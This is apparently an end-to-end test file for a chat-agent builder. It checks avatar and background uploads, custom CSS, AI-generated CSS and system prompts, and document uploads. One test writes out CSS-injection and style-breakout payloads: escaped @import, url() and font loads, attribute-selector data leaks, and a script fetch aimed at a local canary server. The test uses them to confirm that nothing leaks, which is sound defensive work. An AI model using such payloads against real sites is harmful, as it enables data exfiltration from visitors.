import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, FrameLocator, Page } from 'playwright-core';
import sharp from 'sharp';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { cssSelectors, cssTokens } from '#shared/custom-css/names.ts';
import type { AgentConfiguration } from '#features/agents/agents-configuration.contract.ts';
import type { Agent } from '#features/agents/agents.contract.ts';
import { launchChromium } from '#tests/support/app/chromium.ts';
import { startOpenAiStandIn, type OpenAiStandIn } from '#tests/support/models/openai-stand-in.ts';
import { signedInContext } from '#tests/support/dashboard/signed-in.ts';
import { startTestApp, type TestApp } from '#tests/support/app/test-app.ts';

let app: TestApp;
let owner: Awaited<ReturnType<TestApp['register']>>;
let browser: Browser;
let context: BrowserContext;
let model: OpenAiStandIn;
let canary: Server;
const seenByCanary: string[] = [];
const pages: Page[] = [];

beforeAll(async () => {
  app = await startTestApp();
  owner = await app.register('Mira Linden');
  browser = await launchChromium();
  context = await signedInContext(browser, app, owner);
  context.setDefaultTimeout(30_000);
  model = await startOpenAiStandIn({ tokenDelayMs: 20 });
  await owner.request('PUT', '/api/integrations/openai-compatible', {
    body: { baseUrl: model.baseUrl, apiKey: 'key' },
  });
  canary = createServer((request, response) => {
    seenByCanary.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve));
});
afterEach(async () => {
  await Promise.all(pages.splice(0).map((page) => page.close()));
});
afterAll(async () => {
  await browser.close();
  await app.close();
  await model.close();
  canary.close();
});

const eventually = <T>(read: () => Promise<T>) => expect.poll(read, { timeout: 30_000 });
const stored = (agent: Agent): Promise<Agent> => owner.get<Agent>(`/api/agents/${agent.id}`);
const preview = (page: Page): FrameLocator => page.frameLocator('iframe');
const withModel = (draft: AgentConfiguration): object =>
  Object.assign(draft.ai, { provider: 'openai-compatible', model: 'stand-in-large' });

async function newAgent(change: (draft: AgentConfiguration) => void = () => undefined): Promise<Agent> {
  const agent = await owner.post<Agent>('/api/agents', {
    from: 'description',
    input: 'A guide called "Bakery Linden" for a bakery in Utrecht',
  });
  change(agent.draft);
  await owner.request('PUT', `/api/agents/${agent.id}/draft`, {
    body: { revision: agent.draftRevision, configuration: agent.draft },
  });
  return agent;
}
async function publish(agent: Agent): Promise<void> {
  await owner.post(`/api/agents/${agent.id}/publish`, { revision: (await stored(agent)).draftRevision });
}
async function open(address: string): Promise<Page> {
  const page = await context.newPage();
  pages.push(page);
  await page.goto(app.url + address);
  return page;
}
const openEditor = (agent: Agent, section: string): Promise<Page> =>
  open(`/dashboard/agents/edit/${agent.id}?section=${section}`);
const styleOf = (page: Page | FrameLocator, selector: string, property: string): Promise<string> =>
  page
    .locator(selector)
    .first()
    .evaluate((element, name) => getComputedStyle(element).getPropertyValue(name), property);

/** A picture whose left half is red and whose right half is blue. */
async function halves(): Promise<Buffer> {
  const blue = await sharp({ create: { width: 400, height: 400, channels: 3, background: '#0000ff' } })
    .png()
    .toBuffer();
  return sharp({ create: { width: 800, height: 400, channels: 3, background: '#ff0000' } })
    .composite([{ input: blue, left: 400, top: 0 }])
    .png()
    .toBuffer();
}

describe('the pictures of an agent', () => {
  test('the avatar is cropped by keys and zoom, belongs to the draft, and reaches visitors by publishing', async () => {
    const agent = await newAgent();
    await publish(agent);
    const page = await openEditor(agent, 'appearance');
    await page
      .getByRole('group', { name: 'Avatar', exact: true })
      .locator('input[type=file]')
      .setInputFiles({ name: 'me.png', mimeType: 'image/png', buffer: await halves() });
    const dialog = page.getByRole('dialog', { name: 'Crop the picture' });
    await dialog.getByRole('slider', { name: 'Zoom' }).focus();
    await page.keyboard.press('ArrowRight');
    const area = dialog.getByLabel('Picture in the circle');
    await area.focus();
    // To the left edge of the picture: all red.
    for (let step = 0; step < 40; step++) await page.keyboard.press('ArrowRight');
    await dialog.getByRole('button', { name: 'Use this part' }).click();
    await dialog.waitFor({ state: 'detached' });
    await eventually(async () => (await stored(agent)).draft.appearance.avatar).toMatch(/^[0-9a-f]{32}$/);
    const { avatar } = (await stored(agent)).draft.appearance;
    await preview(page).locator(`img[src$="/avatars/${avatar}"]`).first().waitFor();
    const { dominant } = await sharp(
      Buffer.from(await (await fetch(`${app.url}/avatars/${avatar}`)).arrayBuffer()),
    ).stats();
    expect(dominant.r).toBeGreaterThan(200);
    expect(dominant.b).toBeLessThan(60);

    const visit = await open(`/widgets/${agent.number}`);
    await visit.locator('.cw-header').waitFor();
    await expect.poll(() => visit.locator('.cw-avatar img').count()).toBe(0);
    await publish(agent);
    await visit.reload();
    await visit.locator(`img[src$="/avatars/${avatar}"]`).first().waitFor();
  });

  test('the background stands behind the messages in preview and chat, where it was put, and text keeps a ground of its own', async () => {
    const agent = await newAgent();
    const page = await openEditor(agent, 'appearance');
    await page
      .getByRole('group', { name: 'Background image' })
      .locator('input[type=file]')
      .setInputFiles({ name: 'wall.png', mimeType: 'image/png', buffer: await halves() });
    await eventually(() => styleOf(preview(page), '.cw-container', 'background-image')).toMatch(
      /linear-gradient.*\/images\/[0-9a-f]{32}/,
    );
    const slider = page.getByRole('slider', { name: 'Background, left to right' });
    await slider.focus();
    await page.keyboard.press('End');
    await eventually(() => styleOf(preview(page), '.cw-container', 'background-position')).toContain(
      '100% 50%',
    );
    const veil = page.getByRole('slider', { name: 'Veil over the background' });
    await veil.focus();
    await page.keyboard.press('Home');
    await eventually(async () => (await stored(agent)).draft.appearance).toMatchObject({
      backgroundX: 100,
      backgroundY: 50,
      overlayDarkness: 0,
    });
    await publish(agent);

    for (const mode of ['', '/embed']) {
      const visit = await open(`/widgets/${agent.number}${mode}`);
      await eventually(() => styleOf(visit, '.cw-container', 'background-image')).toContain('/images/');
      expect(
        await visit.evaluate(
          () =>
            performance.getEntriesByType('resource').filter((entry) => entry.name.includes('/images/'))
              .length,
        ),
      ).toBeGreaterThan(0);
      for (const part of ['.cw-assistant-message .cw-body', '.cw-header', '.cw-bottom', '.cw-disclosure'])
        expect(await styleOf(visit, part, 'background-color'), part).toBe('rgb(255, 255, 255)');
    }
    await page
      .getByRole('group', { name: 'Background image' })
      .getByRole('button', { name: 'Remove' })
      .click();
    await eventually(() => styleOf(preview(page), '.cw-container', 'background-image')).not.toContain(
      '/images/',
    );
  });
});

describe('custom CSS', () => {
  test('every documented selector and variable changes what visitors see', async () => {
    const color = (index: number): string => `rgb(${index}, 20, 30)`;
    const selectors = Object.values(cssSelectors);
    const agent = await newAgent((draft) => {
      draft.footer.text = 'Answers may contain mistakes.';
      draft.css.code = selectors
        .map((selector, index) => `${selector} { outline: 1px solid ${color(index)}; }`)
        .join('\n');
    });
    await publish(agent);
    const visit = await open(`/widgets/${agent.number}`);
    await visit.getByRole('textbox').fill('When do you open?');
    await visit.keyboard.press('Enter');
    await visit.locator('.cw-user-message').waitFor();
    for (const [index, selector] of selectors.entries()) {
      // A message of the visitor or agent is a message too, and the later rule counts.
      const shown =
        selector === '.cw-message'
          ? ['.cw-user-message', '.cw-assistant-message'].map((name) =>
              color(selectors.findIndex((one) => one === name)),
            )
          : [color(index)];
      await eventually(() => styleOf(visit, selector, 'outline-color')).toSatisfy((value: string) =>
        shown.includes(value),
      );
    }

    const tokens = Object.entries(cssTokens);
    const valueOf = (name: string): string =>
      name === 'font'
        ? 'Georgia, serif'
        : name === 'gutter'
          ? '7px'
          : `rgb(1, 2, ${tokens.findIndex(([other]) => other === name)})`;
    const places: Record<keyof typeof cssTokens, [selector: string, property: string]> = {
      brand: ['.cw-bubble', 'background-color'],
      onBrand: ['.cw-bubble', 'color'],
      ink: ['.cw-field', 'border-top-color'],
      surface: ['.cw-field', 'background-color'],
      raised: ['.cw-container', '--cw-raised'],
      sunken: ['.cw-send', 'background-color'],
      line: ['.cw-header', 'border-bottom-color'],
      edge: ['.cw-send', 'color'],
      text: ['.cw-container', 'color'],
      muted: ['.cw-disclosure', 'color'],
      font: ['.cw-container', 'font-family'],
      gutter: ['.cw-bottom', 'padding-left'],
    };
    const { draft, draftRevision } = await stored(agent);
    draft.css.code = `.cw-container {\n${tokens.map(([name, token]) => `  ${token}: ${valueOf(name)};`).join('\n')}\n}`;
    await owner.request('PUT', `/api/agents/${agent.id}/draft`, {
      body: { revision: draftRevision, configuration: draft },
    });
    await publish(agent);
    const embed = await open(`/widgets/${agent.number}/embed`);
    await embed.getByRole('textbox').fill('When do you open?');
    await embed.keyboard.press('Enter');
    await embed.locator('.cw-bubble').first().waitFor();
    await embed.locator('.cw-send:disabled').waitFor();
    for (const [name, [selector, property]] of Object.entries(places))
      await eventually(() => styleOf(embed, selector, property)).toBe(valueOf(name));
  });

  test('shows in the preview while it is typed, and a fault is named with its line and keeps nothing else from being read', async () => {
    const agent = await newAgent();
    const page = await openEditor(agent, 'css');
    await page.getByRole('textbox', { name: 'CSS of the chat' }).click();
    await page.keyboard.insertText('.cw-header {\n  background: rgb(1, 2, 3);\n}\n@import "x.css";');
    await eventually(() => styleOf(preview(page), '.cw-header', 'background-color')).toBe('rgb(1, 2, 3)');
    await page.getByText('Line 4: this @ rule isn’t allowed').waitFor();
    await page.getByText('Fix 1 field to save').waitFor();
    for (let step = 0; step < 16; step++) await page.keyboard.press('Backspace');
    await eventually(async () => (await stored(agent)).draft.css.code).toContain('rgb(1, 2, 3)');
    await page.getByRole('button', { name: 'Insert .cw-footer' }).click();
    await page.keyboard.insertText('opacity: 0.5;');
    await eventually(() => styleOf(preview(page), '.cw-footer', 'opacity')).toBe('0.5');
    await page.keyboard.press('Control+z');
    await eventually(() => styleOf(preview(page), '.cw-footer', 'opacity')).toBe('1');
    await page.keyboard.press('Escape');
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.closest('.cm-editor'))).toBeNull();
  });

  test('that is hostile reaches nobody outside, whatever way it came into the database', async () => {
    const agent = await newAgent();
    await publish(agent);
    const out = `//127.0.0.1:${(canary.address() as AddressInfo).port}`;
    const code = [
      `@import "http:${out}/import"; @\\69 mport "http:${out}/escaped";`,
      `.cw-header { background: url(http:${out}/url) } .cw-footer { background: u\\72l("${out}/escaped-url") }`,
      `.cw-container { --x: url(${out}/variable); background: image-set("http:${out}/set" 1x) }`,
      `@font-face { font-family: leak; src: url(http:${out}/font) } .cw-messages { font-family: leak; cursor: url(${out}/cursor), auto; content: url(${out}/content) }`,
      `input[value^=a], textarea:placeholder-shown { background: url(${out}/input) } html, body { opacity: 0.99 } .cw-container ~ * { color: red }`,
      `</style><img src="http:${out}/img"><script>fetch('http:${out}/script')</script> .cw-message { color: rgb(9, 9, 9) }`,
    ].join('\n');
    const { draft, draftRevision } = await stored(agent);
    draft.css.code = code;
    expect(
      (
        await owner.request('PUT', `/api/agents/${agent.id}/draft`, {
          body: { revision: draftRevision, configuration: draft },
        })
      ).status,
    ).toBe(400);
    // Past every check of ours, as an import or a hole might bring it.
    await app.database.database.system((tx) =>
      tx.$client.query(
        "UPDATE agents SET live = jsonb_set(live, '{css,code}', to_jsonb($2::text)), draft = jsonb_set(draft, '{css,code}', to_jsonb($2::text)) WHERE id = $1",
        [agent.id, code],
      ),
    );
    for (const address of [
      `/widgets/${agent.number}`,
      `/widgets/${agent.number}/embed`,
      `/dashboard/agents/edit/${agent.id}?section=css`,
    ]) {
      const page = await open(address);
      const shown = address.startsWith('/dashboard') ? preview(page) : page;
      await shown.locator('.cw-header').waitFor();
      await page.waitForLoadState('networkidle');
    }
    expect(seenByCanary).toEqual([]);
  });
});

describe('generating', () => {
  test('CSS out of a wish shows in the preview; undo brings the old back, keep leaves the new', async () => {
    const old = '.cw-footer {\n  opacity: 0.9;\n}\n';
    const agent = await newAgent((draft) => {
      draft.css.code = old;
      withModel(draft);
    });
    const page = await openEditor(agent, 'css');
    const header = () => styleOf(preview(page), '.cw-header', 'background-color');
    await page.locator('.cm-content').waitFor();
    await page.getByLabel('Describe the look').fill('dark header');
    model.script({ kind: 'text', text: `${old}\n.cw-header {\n  background: rgb(17, 24, 39);\n}\n` });
    await page.getByRole('button', { name: 'Generate' }).click();
    await eventually(header).toBe('rgb(17, 24, 39)');
    expect(JSON.stringify(model.chats.at(-1)?.messages)).toContain('dark header');
    await page.getByRole('button', { name: 'Undo' }).last().click();
    await eventually(header).toBe('rgb(255, 255, 255)');
    await eventually(async () => (await stored(agent)).draft.css.code).toBe(old);
    model.script({ kind: 'status', status: 500 });
    await page.getByRole('button', { name: 'Generate' }).click();
    await page.getByText('Nothing was generated; your text is as it was.').waitFor();
    model.script({ kind: 'text', text: `${old}\n.cw-header {\n  background: #2563eb;\n}\n` });
    await page.getByRole('button', { name: 'Generate' }).click();
    await page.getByRole('button', { name: 'Keep' }).click();
    await eventually(async () => (await stored(agent)).draft.css.code).toMatch(/opacity: 0\.9[^]+#2563eb/);
  });

  test('CSS out of a wish is not offered to an agent without a model, which is told what it needs', async () => {
    const page = await openEditor(await newAgent(), 'css');
    await page.getByText('This needs a language model.').waitFor();
    await expect.poll(() => page.getByLabel('Describe the look').isDisabled()).toBe(true);
    await expect.poll(() => page.getByRole('button', { name: 'Generate' }).isDisabled()).toBe(true);
  });

  test('a system prompt streams into its field, can be stopped, and a failure leaves the old one; a variable is put in where the cursor was, by keyboard', async () => {
    const agent = await newAgent(withModel);
    const old = (await stored(agent)).draft.prompt.systemPrompt;
    const page = await openEditor(agent, 'prompt');
    const field = page.getByLabel('System prompt', { exact: true });
    await page.getByRole('button', { name: 'Generate a system prompt' }).click();
    model.script({ kind: 'stall-after', tokens: 4 });
    await page.getByRole('button', { name: 'Generate', exact: true }).click();
    await eventually(() => field.inputValue()).toContain('word4');
    expect((await stored(agent)).draft.prompt.systemPrompt).toBe(old);
    await page.getByRole('button', { name: 'Stop', exact: true }).click();
    await page.getByText('Stopped halfway.').waitFor();
    await page.getByRole('button', { name: 'Undo' }).last().click();
    await expect.poll(() => field.inputValue()).toBe(old);
    model.script({ kind: 'status', status: 500 });
    await page.getByRole('button', { name: 'Generate', exact: true }).click();
    await page.getByText('Nothing was generated; your text is as it was.').waitFor();
    await expect.poll(() => field.inputValue()).toBe(old);
    model.script({ kind: 'text', text: 'You are the baker of Linden.' });
    await page.getByRole('button', { name: 'Generate', exact: true }).click();
    await page.getByRole('button', { name: 'Keep' }).click();
    await eventually(async () => (await stored(agent)).draft.prompt.systemPrompt).toBe(
      'You are the baker of Linden.',
    );
    await field.fill('Greet warmly.');
    await field.evaluate((box: HTMLTextAreaElement) => box.setSelectionRange(5, 5));
    await page.getByRole('button', { name: 'Insert variable' }).press('Enter');
    await page.getByRole('menuitem', { name: 'First name' }).press('Enter');
    // Nobody types before the menu has closed and the field has the keyboard again.
    await eventually(() => field.inputValue()).toBe('Greet {{contact.first_name}} warmly.');
    await eventually(() => field.evaluate((box) => document.activeElement === box)).toBe(true);
    await page.keyboard.type('!');
    await eventually(async () => (await stored(agent)).draft.prompt.systemPrompt).toBe(
      'Greet {{contact.first_name}}! warmly.',
    );
  });

  test('a document is read into the prompt, shown, and taken out again', async () => {
    const agent = await newAgent();
    const page = await openEditor(agent, 'prompt');
    const group = page.getByRole('group', { name: 'Documents in the prompt' });
    await group.locator('input[type=file]').setInputFiles({
      name: 'prices.txt',
      mimeType: 'text/plain',
      buffer: Buffer.from(`Rye bread costs 4.20 euros. ${'More bread. '.repeat(2_000)}`),
    });
    await group.getByText('prices.txt is longer than 20,000 characters.').waitFor();
    await group.getByRole('button', { name: 'View prices.txt' }).click();
    await page.getByRole('dialog').getByText('Rye bread costs 4.20 euros.').waitFor();
    await page.keyboard.press('Escape');
    await eventually(async () =>
      (await stored(agent)).draft.prompt.files.map(({ name, text }) => [name, text.length]),
    ).toEqual([['prices.txt', 20_000]]);
    await group.locator('input[type=file]').setInputFiles({
      name: 'virus.exe',
      mimeType: 'application/octet-stream',
      buffer: Buffer.from('MZ\u0000\u0001\u0002'),
    });
    await group.getByText('This kind of file can’t be read here.').waitFor();
    await group.getByRole('button', { name: 'Remove prices.txt' }).click();
    await eventually(async () => (await stored(agent)).draft.prompt.files).toEqual([]);
  });
});
